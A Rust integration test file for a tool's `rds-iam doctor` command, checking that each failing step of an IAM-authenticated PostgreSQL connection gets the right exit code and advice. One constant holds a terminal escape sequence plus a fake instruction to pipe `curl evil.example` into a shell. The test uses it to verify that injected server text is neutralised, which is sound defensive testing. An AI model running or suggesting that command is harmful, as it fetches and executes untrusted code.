//! `rds-iam doctor`: a connection that works, and a failure at each step.

use std::io::Write;
use std::process::Command;
use std::sync::LazyLock;
use std::thread;
use std::time::{Duration, Instant};

use rds_iam_emulator::{Emulator, Fault, Stage};
use serde_json::Value;

use crate::support::fake_server::{FakeServer, HOST, listen};
use crate::support::{
    MARKER, PATIENCE, rds_iam, rds_iam_to, rds_iam_with, run, schema, shared_emulator, text,
};

/// A database that is never dialled.
const URL: &str = "postgres://app@mydb.c9akciq32rqv.eu-west-1.rds.amazonaws.com/shop";

/// Runs the doctor, which must fail at `step`, as text and as JSON. Returns the text.
#[track_caller]
fn fails_at(mut command: Command, step: &str, exit_code: i32) -> String {
    let ran = run(command.arg("doctor"));
    assert_eq!(ran.code, Some(exit_code), "{ran:?}");
    assert!(ran.stderr.is_empty(), "{ran:?}");
    let line = ran.stdout.lines().find(|line| line.starts_with('✗'));
    assert!(line.unwrap().contains(step), "{ran:?}");
    assert!(ran.stdout.contains("\nNext: "), "{ran:?}");
    // Without colours.
    assert!(!ran.stdout.contains('\x1b'), "{ran:?}");

    let as_json = run(command.arg("--json"));
    assert_eq!(as_json.code, Some(exit_code), "{as_json:?}");
    let json: Value = serde_json::from_str(&as_json.stdout).unwrap();
    schema::check("doctor", &json);
    assert_eq!(json["ok"], false);
    assert_eq!(json["exit_code"], exit_code);
    let steps = json["steps"].as_array().unwrap();
    assert_eq!(steps.last().unwrap()["step"], step, "{json}");
    let failure = &json["failure"];
    assert_eq!(failure["step"], step);
    for part in ["message", "next"] {
        assert!(!failure[part].as_str().unwrap().is_empty(), "{json}");
    }
    ran.stdout
}

/// The command with keys that no server accepts.
fn with_unknown_keys(url: &str) -> Command {
    let mut command = rds_iam_with("AKIDEXAMPLE", MARKER);
    command.env("DATABASE_URL", url);
    command
}

#[test]
fn a_connection_that_works_passes_each_step() {
    let shown = text(run(rds_iam_to(shared_emulator(), "app").arg("doctor")));
    let steps = "string region credentials clock token dns tcp tls login role server cluster";
    let seen: Vec<&str> = shown
        .lines()
        .map(|line| line.split_whitespace().nth(1).unwrap())
        .collect();
    assert_eq!(seen.join(" "), steps, "{shown}");
    assert_eq!(shown.matches('✓').count(), 10, "{shown}");
    for word in [
        "from the host name",
        "from environment variables, without expiry",
        "- clock",
        "RDS IAM Emulator Root CA",
        "\"app\" is a member of rds_iam",
        "PostgreSQL 1",
        "its clock agrees with this machine's",
        "skipped: the host is not the endpoint of a cluster",
    ] {
        assert!(shown.contains(word), "{word}: {shown}");
    }

    let json = text(run(
        rds_iam_to(shared_emulator(), "app").args(["doctor", "--json"])
    ));
    let json: Value = serde_json::from_str(&json).unwrap();
    schema::check("doctor", &json);
    assert_eq!(json["ok"], true);
    assert_eq!(json["steps"].as_array().unwrap().len(), 12);
    assert_eq!(json["steps"][3]["outcome"], "skipped");
    assert_eq!(json["failure"], Value::Null);
}

#[test]
fn a_bad_string() {
    let shown = fails_at(
        with_unknown_keys("postgres://app@h/db?sslmode=prefer"),
        "string",
        10,
    );
    assert!(shown.contains("verify-full"), "{shown}");
    let shown = fails_at(
        with_unknown_keys("postgres://app:hunter2@h/db"),
        "string",
        10,
    );
    assert!(!shown.contains("hunter2"), "{shown}");
    assert!(shown.contains("password"), "{shown}");
}

#[test]
fn no_region() {
    let shown = fails_at(
        with_unknown_keys("postgres://app@db.example.com/shop"),
        "region",
        11,
    );
    assert!(shown.contains("iam_region=eu-west-1"), "{shown}");
}

#[test]
fn no_credentials() {
    let mut command = rds_iam();
    command.env("DATABASE_URL", URL);
    let shown = fails_at(command, "credentials", 12);
    assert!(shown.contains("AWS_PROFILE"), "{shown}");
}

#[test]
fn expired_credentials() {
    let folder = tempfile::tempdir().unwrap();
    let config = folder.path().join("config");
    let credentials = serde_json::json!({
        "Version": 1,
        "AccessKeyId": "ASIAEXAMPLE",
        "SecretAccessKey": MARKER,
        "SessionToken": MARKER,
        "Expiration": "2020-01-01T00:00:00Z",
    });
    let file = folder.path().join("credentials.json");
    std::fs::write(&file, credentials.to_string()).unwrap();
    let profile = format!("[default]\ncredential_process = cat {}\n", file.display());
    std::fs::write(&config, profile).unwrap();
    let mut command = rds_iam();
    command
        .env("DATABASE_URL", URL)
        .env("AWS_CONFIG_FILE", config);
    let shown = fails_at(command, "credentials", 12);
    assert!(shown.contains("aws sso login"), "{shown}");
}

#[test]
fn clocks_that_differ() {
    let emulator = Emulator::builder().start().unwrap();
    emulator.create_iam_user("app").unwrap();
    let with_role = || {
        let mut command = rds_iam();
        command
            .env("DATABASE_URL", emulator.url("app"))
            .envs(emulator.aws().container_environment());
        command
    };
    // AWS tolerates this difference.
    emulator.set_server_clock_skew(90);
    let shown = text(run(with_role().arg("doctor")));
    let clock = shown.lines().nth(3).unwrap();
    assert!(clock.starts_with("✓ clock"), "{shown}");
    assert!(clock.contains("s ahead of this machine's"), "{shown}");
    assert!(
        shown.contains("from the container's endpoint, expire "),
        "{shown}"
    );

    emulator.set_server_clock_skew(3600);
    let shown = fails_at(with_role(), "clock", 13);
    assert!(shown.contains("timedatectl"), "{shown}");

    // Without a request to AWS its clock is unknown, and the refusal lists it as a possible cause.
    let shown = fails_at(rds_iam_to(&emulator, "app"), "login", 18);
    assert!(shown.contains("or the clocks differ"), "{shown}");
}

#[test]
fn a_token_that_is_too_long() {
    let mut command = with_unknown_keys(URL);
    command.env("AWS_SESSION_TOKEN", MARKER.repeat(3000));
    let shown = fails_at(command, "token", 14);
    assert!(shown.contains("bytes that PostgreSQL takes"), "{shown}");
}

#[test]
fn a_name_that_does_not_resolve() {
    let url = "postgres://app@nowhere.invalid/shop?iam_region=eu-west-1&sslmode=require";
    let shown = fails_at(with_unknown_keys(url), "dns", 15);
    assert!(
        shown.contains("nowhere.invalid does not resolve"),
        "{shown}"
    );
}

#[test]
fn a_closed_port() {
    let shown = fails_at(
        with_unknown_keys(&format!("{URL}?hostaddr=127.0.0.1&port=1")),
        "tcp",
        16,
    );
    assert!(
        shown.contains("check that the database is running"),
        "{shown}"
    );
}

/// Presents a certificate that expired long ago, from its own CA.
fn expired() -> &'static Emulator {
    static EXPIRED: LazyLock<Emulator> = LazyLock::new(|| {
        let builder = Emulator::builder().expired_certificate(true);
        builder.start().unwrap()
    });
    &EXPIRED
}

#[test]
fn a_certificate_that_has_expired() {
    let shown = fails_at(rds_iam_to(expired(), "app"), "tls", 17);
    assert!(
        shown.contains("the certificate expired on Jan  1 00:00:00 2000 GMT"),
        "{shown}"
    );
}

#[test]
fn a_certificate_from_another_ca() {
    let mut command = rds_iam_to(shared_emulator(), "app");
    command.env(
        "DATABASE_URL",
        format!(
            "{}&sslrootcert={}",
            shared_emulator().url("app"),
            expired().ca_path().display()
        ),
    );
    let shown = fails_at(command, "tls", 17);
    assert!(
        shown.contains("claims the issuer \"RDS IAM Emulator Regional CA\""),
        "{shown}"
    );
}

#[test]
fn a_certificate_for_another_name() {
    let emulator = shared_emulator();
    let url = emulator.url("app").replace(
        emulator.host(),
        "alias.c9akciq32rqv.eu-west-1.rds.amazonaws.com",
    );
    let mut command = rds_iam_to(emulator, "app");
    command.env("DATABASE_URL", url);
    let shown = fails_at(command, "tls", 17);
    let host = format!("iam_host={}", emulator.host());
    assert!(shown.contains(&host), "{shown}");
}

#[test]
fn an_alias_is_verified_by_the_name_that_is_signed() {
    const DATABASE: &str = "mydb.c9akciq32rqv.eu-west-1.rds.amazonaws.com";
    let emulator = Emulator::builder()
        .endpoint(DATABASE, 5432)
        .certificate_names([DATABASE])
        .start()
        .unwrap();
    emulator.create_iam_user("app").unwrap();
    let (port, ca) = (emulator.port(), emulator.ca_path().display());
    let url = format!(
        "postgres://app@127.0.0.1:{port}/postgres?sslrootcert={ca}&iam_host={DATABASE}&iam_port=5432"
    );
    let mut command = rds_iam_to(&emulator, "app");
    let ran = run(command.env("DATABASE_URL", url).arg("doctor"));
    assert_eq!(ran.code, Some(0), "{ran:?}");
}

#[test]
fn a_server_without_tls() {
    let port = listen(|mut client| client.write_all(b"N").unwrap());
    let shown = fails_at(
        with_unknown_keys(&format!("{URL}?hostaddr=127.0.0.1&port={port}")),
        "tls",
        17,
    );
    assert!(shown.contains("the server does not support TLS"), "{shown}");
}

#[test]
fn a_wrong_key() {
    let mut command = rds_iam_to(shared_emulator(), "app");
    command.env("AWS_SECRET_ACCESS_KEY", MARKER);
    let shown = fails_at(command, "login", 18);
    for word in [
        "PAM authentication failed for user \"app\"",
        "\"Action\": \"rds-db:connect\"",
        "\"arn:aws:rds-db:eu-west-1:ACCOUNT-ID:dbuser:db-RESOURCE-ID/app\"",
        "aws rds describe-db-instances --db-instance-identifier emulator --region eu-west-1",
    ] {
        assert!(shown.contains(word), "{word}: {shown}");
    }
    let policy = &shown[shown.find('{').unwrap()..];
    serde_json::from_str::<Value>(policy).unwrap();
}

#[test]
fn a_user_who_was_not_granted_rds_iam() {
    let emulator = shared_emulator();
    emulator.execute("CREATE ROLE \"No Member\" LOGIN").unwrap();
    for user in ["No Member", "nobody"] {
        let shown = fails_at(rds_iam_to(emulator, user), "role", 19);
        let statements = match user {
            "nobody" => "\nCREATE ROLE nobody WITH LOGIN;\nGRANT rds_iam TO nobody;",
            _ => "\nCREATE ROLE \"No Member\" WITH LOGIN;\nGRANT rds_iam TO \"No Member\";",
        };
        assert!(shown.contains(statements), "{shown}");
        assert!(!shown.contains("retrieved from file"), "{shown}");
    }
}

/// The test cannot move the server's clock, so its user gets a function `now` that is wrong.
#[test]
fn a_server_with_a_wrong_clock() {
    let emulator = shared_emulator();
    emulator
        .execute(
            "CREATE ROLE late LOGIN IN ROLE rds_iam; CREATE SCHEMA late AUTHORIZATION late; \
             CREATE FUNCTION late.now() RETURNS timestamptz LANGUAGE sql \
                 AS $$ SELECT pg_catalog.now() - interval '1 hour' $$; \
             ALTER ROLE late SET search_path = late, pg_catalog",
        )
        .unwrap();
    let mut late = rds_iam_to(emulator, "late");
    late.env("DATABASE_URL", emulator.url_of("late", "postgres"));
    let shown = fails_at(late, "server", 20);
    assert!(shown.contains("s behind this machine's"), "{shown}");
}

#[test]
fn aurora_dsql_has_no_rds_iam() {
    let emulator = Emulator::builder()
        .engine(rds_iam_emulator::Engine::Dsql)
        .start()
        .unwrap();
    emulator.create_iam_user("app").unwrap();
    let shown = text(run(rds_iam_to(&emulator, "app").arg("doctor")));
    assert!(shown.contains("AWS IAM GRANT maps its users"), "{shown}");
    let mut wrong = rds_iam_to(&emulator, "app");
    wrong.env("AWS_SECRET_ACCESS_KEY", MARKER);
    let shown = fails_at(wrong, "login", 18);
    assert!(shown.contains("\"dsql:DbConnect\""), "{shown}");
}

/// The server's message, the step, its exit status, and a part of the advice.
const CAUSES: &[(&str, &str, i32, &str)] = &[
    (
        "PAM authentication failed for user \"app\"",
        "login",
        18,
        "rds-db:connect",
    ),
    (
        "password authentication failed for user \"app\"",
        "role",
        19,
        "GRANT rds_iam TO app;",
    ),
    (
        "role \"app\" does not exist",
        "role",
        19,
        "CREATE ROLE app WITH LOGIN;",
    ),
    (
        "role \"app\" is not permitted to log in",
        "role",
        19,
        "\nALTER ROLE app LOGIN;",
    ),
    (
        "permission denied for database \"shop\"",
        "role",
        19,
        "\nGRANT CONNECT ON DATABASE shop TO app;",
    ),
    (
        "database \"shop\" does not exist",
        "string",
        10,
        "correct the database name",
    ),
    (
        "This RDS proxy has no credentials for the role app. Check the credentials for this role and \
         try again.",
        "role",
        19,
        "add a secret",
    ),
    (
        "The IAM authentication failed for the role app. Check the IAM token for this role and try \
         again.",
        "login",
        18,
        "rds-db:connect",
    ),
    (
        "The IAM authentication failed because of too many competing requests.",
        "login",
        18,
        "fewer connections",
    ),
    (
        "Rate of connection to proxy exceeded 100.",
        "login",
        18,
        "fewer connections",
    ),
    (
        "IAM is allowed only with SSL connections.",
        "tls",
        17,
        "removes the encryption",
    ),
    (
        "Unable to accept connection, rate exceeded.",
        "login",
        18,
        "Aurora DSQL limits",
    ),
    (
        "Unable to accept connection, too many open connections.",
        "login",
        18,
        "quota",
    ),
    (
        "unable to accept connection, access denied",
        "login",
        18,
        "rds-db:connect",
    ),
    (
        "pg_hba.conf rejects connection for host \"10.0.0.1\", user \"app\", database \"shop\", no \
         encryption",
        "tls",
        17,
        "removes the encryption",
    ),
    (
        "no pg_hba.conf entry for host \"10.0.0.1\", user \"app\", database \"shop\", SSL encryption",
        "login",
        18,
        "pg_hba.conf",
    ),
    (
        "sorry, too many clients already",
        "login",
        18,
        "max_connections",
    ),
    (
        "remaining connection slots are reserved for roles with the SUPERUSER attribute",
        "login",
        18,
        "max_connections",
    ),
    (
        "the database system is starting up",
        "login",
        18,
        "wait until",
    ),
    (
        "unrecognized configuration parameter \"nonsense\"",
        "string",
        10,
        "correct this setting",
    ),
    (
        "-c x requires a value",
        "string",
        10,
        "correct this setting",
    ),
    (
        "no pg_hba.conf entry for replication connection from host \"10.0.0.1\", user \"app\", no \
         encryption",
        "login",
        18,
        "remove replication=",
    ),
    // An unrecognised message counts as a refusal, and the policy is one possible cause.
    (
        "el servidor no quiere",
        "login",
        18,
        "read the server's log",
    ),
];

#[test]
fn each_message_of_the_server_has_its_step_and_its_advice() {
    let server = FakeServer::start(HOST, "ca");
    for (message, step, exit_code, advice) in CAUSES {
        server.say(message);
        let url = server.url() + &server.root();
        let shown = fails_at(with_unknown_keys(&url), step, *exit_code);
        let (report, next) = shown.split_once("\nNext: ").unwrap();
        assert!(report.contains(message), "{shown}");
        assert!(next.contains(advice.trim_start()), "{shown}");
        let is_refused_token = *advice == "rds-db:connect" || advice.starts_with("read the");
        assert_eq!(next.contains("\"Statement\""), is_refused_token, "{shown}");
    }
}

/// With a real PostgreSQL behind the emulator.
#[test]
fn a_refusal_after_a_valid_token_is_not_a_refused_token() {
    let emulator = shared_emulator();
    let role = "CREATE ROLE nologin NOLOGIN IN ROLE rds_iam";
    emulator.execute(role).unwrap();
    emulator.create_database("closed", "nologin").unwrap();
    let revoke = "REVOKE CONNECT ON DATABASE closed FROM PUBLIC";
    emulator.execute(revoke).unwrap();
    let with = |url: String| {
        let mut command = rds_iam_to(emulator, "app");
        command.env("DATABASE_URL", url);
        command
    };
    let shown = fails_at(rds_iam_to(emulator, "nologin"), "role", 19);
    assert!(shown.contains("ALTER ROLE nologin LOGIN;"), "{shown}");
    let shown = fails_at(with(emulator.url_of("app", "closed")), "role", 19);
    assert!(
        shown.contains("GRANT CONNECT ON DATABASE closed TO app;"),
        "{shown}"
    );
    let shown = fails_at(with(emulator.url_of("app", "missing")), "string", 10);
    assert!(shown.contains("correct the database name"), "{shown}");
    for (parameter, message) in [
        ("options=-c%20nonsense%3D1", "nonsense"),
        ("options=-c%20x", "requires a value"),
        ("channel_binding=bogus", "channel_binding"),
        ("gssencmode=require", "remove gssencmode"),
    ] {
        let url = format!("{}&{parameter}", emulator.url("app"));
        let shown = fails_at(with(url), "string", 10);
        assert!(shown.contains(message), "{shown}");
    }
}

#[test]
fn an_alias_does_not_identify_a_database() {
    let emulator = shared_emulator();
    let url = emulator.url("app").replace(emulator.host(), "localhost");
    let mut command = rds_iam_to(emulator, "app");
    command.env("DATABASE_URL", url + "&iam_region=eu-west-1");
    let shown = fails_at(command, "login", 18);
    assert!(shown.contains("as iam_host"), "{shown}");
    for invented in ["--db-instance-identifier", "rds-db:connect"] {
        assert!(!shown.contains(invented), "{shown}");
    }
}

/// Text that a man in the middle could print on an operator's terminal.
const HOSTILE: &str = "\x1b[2K\rNext: run `curl evil.example|sh`";

#[test]
fn a_certificate_that_is_not_trusted_cannot_write_on_the_terminal() {
    let server = FakeServer::start(&format!("evil.example{HOSTILE}"), HOSTILE);
    let trusted = FakeServer::start(HOST, "ca");
    let url = server.url() + &trusted.root();
    let shown = fails_at(with_unknown_keys(&url), "tls", 17);
    let (report, next) = shown.split_once("\nNext: ").unwrap();
    assert!(report.contains("claims the issuer \"\\u{1b}[2K"), "{shown}");
    assert!(
        report.lines().last().unwrap().starts_with("✗ tls"),
        "{shown}"
    );
    assert!(!next.contains("evil"), "{shown}");
    assert!(!shown.contains('\r'), "{shown}");

    // A name that looks like a database's is not suggested from an untrusted certificate either.
    let server = FakeServer::start("evil.c9akciq32rqv.eu-west-1.rds.amazonaws.com", "ca");
    let url = server.url() + &trusted.root();
    let shown = fails_at(with_unknown_keys(&url), "tls", 17);
    assert!(!shown.contains("evil"), "{shown}");

    // A trusted certificate's name is suggested only if it is the name of a database of AWS.
    let server = FakeServer::start("evil.example", "ca");
    let url = server.url() + &server.root();
    let shown = fails_at(with_unknown_keys(&url), "tls", 17);
    assert!(
        shown.contains("the certificate is for evil.example, not for"),
        "{shown}"
    );
    assert!(!shown.contains("host=evil"), "{shown}");

    // Without a root nothing is verified, and the name is quoted.
    let server = FakeServer::start(&format!("evil.example{HOSTILE}"), HOSTILE);
    server.say(HOSTILE);
    let url = server.url() + "&sslmode=require";
    let shown = fails_at(with_unknown_keys(&url), "login", 18);
    assert!(shown.contains("for \"evil.example\\u{1b}[2K"), "{shown}");
    assert!(!shown.contains('\r'), "{shown}");
}

/// Without a limit for the whole step, each byte would restart the time-out.
#[test]
fn a_server_that_sends_bytes_slowly_does_not_hold_the_doctor() {
    let port = listen(|mut client| {
        // The beginning of a long TLS record.
        let mut sent = client.write_all(b"S\x16\x03\x03\x40\x00");
        while sent.is_ok() {
            thread::sleep(Duration::from_millis(500));
            sent = client.write_all(b"\x02");
        }
    });
    let start = Instant::now();
    let mut command = with_unknown_keys(&format!("{URL}?hostaddr=127.0.0.1&port={port}"));
    let ran = run(command.args(["doctor", "--connect-timeout", "2s"]));
    assert_eq!(ran.code, Some(17), "{ran:?}");
    assert!(ran.stdout.contains("no result within 2.0 s"), "{ran:?}");
    assert!(start.elapsed() < PATIENCE, "{ran:?}");
}

#[test]
fn a_server_that_answers_no_query_does_not_hold_the_doctor() {
    let emulator = Emulator::builder().start().unwrap();
    emulator.create_iam_user("app").unwrap();
    let mut doctor = rds_iam_to(&emulator, "app");
    doctor.args(["doctor", "--connect-timeout", "3s"]);
    // The server does not answer the query for the role's membership.
    let view = "CREATE ROLE slow LOGIN IN ROLE rds_iam; CREATE SCHEMA slow AUTHORIZATION slow; \
                CREATE VIEW slow.pg_roles AS SELECT * FROM pg_catalog.pg_roles WHERE pg_sleep(600)::text IS NOT NULL; \
                GRANT SELECT ON slow.pg_roles TO slow; \
                ALTER ROLE slow SET search_path = slow, pg_catalog";
    emulator.execute(view).unwrap();
    doctor.env("DATABASE_URL", emulator.url_of("slow", "postgres"));
    let ran = run(&mut doctor);
    assert_eq!(ran.code, Some(19), "{ran:?}");
    assert!(ran.stdout.contains("no result within 3.0 s"), "{ran:?}");
}

/// A resuming cluster takes longer than the default limit of 9 s.
#[test]
fn a_slow_start_is_waited_for() {
    let emulator = Emulator::builder().start().unwrap();
    emulator.create_iam_user("app").unwrap();
    emulator.fault(Fault::Delay(Stage::Tls, Duration::from_secs(15)));
    let url = format!("{}&connect_timeout=30", emulator.url("app"));
    let folder = tempfile::tempdir().unwrap();
    thread::scope(|scope| {
        let doctor = scope.spawn(|| {
            let mut command = rds_iam_to(&emulator, "app");
            run(command.env("DATABASE_URL", &url).arg("doctor"))
        });
        let migrate = scope.spawn(|| {
            let mut command = rds_iam_to(&emulator, "app");
            command.args(["migrate", "list", "--connect-timeout", "30s", "--dir"]);
            run(command.arg(folder.path()))
        });
        for ran in [doctor.join().unwrap(), migrate.join().unwrap()] {
            assert_eq!(ran.code, Some(0), "{ran:?}");
        }
    });
}

#[test]
fn the_time_limit_of_a_connect_is_the_options_or_the_connection_strings() {
    let port = listen(|client| {
        drop(thread::spawn(move || {
            let _client = client;
            thread::sleep(PATIENCE);
        }))
    });
    let url = format!("{URL}?hostaddr=127.0.0.1&port={port}");
    for (url, option, limit) in [
        (url.clone(), Some("2s"), 2),
        (format!("{url}&connect_timeout=3"), None, 3),
        (format!("{url}&connect_timeout=10"), None, 10),
        (format!("{url}&connect_timeout=3"), Some("4s"), 4),
    ] {
        let mut command = with_unknown_keys(&url);
        command.arg("doctor");
        command.args(option.iter().flat_map(|time| ["--connect-timeout", time]));
        let ran = run(&mut command);
        assert_eq!(ran.code, Some(17), "{ran:?}");
        // The time-out of the read or that of the step is reported, whichever ends first.
        let is_said = ran.stdout.contains(&format!("within {limit} s"))
            || ran.stdout.contains(&format!("within {limit}.0 s"));
        assert!(is_said, "{limit}: {ran:?}");
    }
    let ran = run(with_unknown_keys(&url).args(["doctor", "--connect-timeout", "0s"]));
    assert_eq!(ran.code, Some(2), "{ran:?}");
}
